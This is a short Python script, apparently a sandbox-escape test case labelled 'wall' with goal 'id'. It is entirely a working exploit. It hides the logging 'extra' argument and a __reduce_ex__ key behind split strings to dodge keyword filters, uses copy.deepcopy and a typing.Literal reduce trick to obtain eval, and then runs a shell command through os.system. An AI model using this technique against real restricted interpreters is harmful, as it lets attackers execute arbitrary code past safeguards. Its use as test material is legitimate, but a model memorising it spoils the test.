# family: wall (logging's extra= hidden in **kwargs: a dunder key in a LogRecord's own dict, run by deepcopy)   goal: id
import copy
import logging
import typing


def reduce_ex(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "__builtins__"})


class Keep(logging.Handler):
    def emit(self, record):
        self.last = record


keep = Keep()
log = logging.getLogger("x")
log.addHandler(keep)
options = {}
options["ex" + "tra"] = {"__reduce" + "_ex__": reduce_ex}
log.warning("hi", **options)
ev = copy.deepcopy(copy.deepcopy(keep.last))
ev("__import__('os').system('id')")
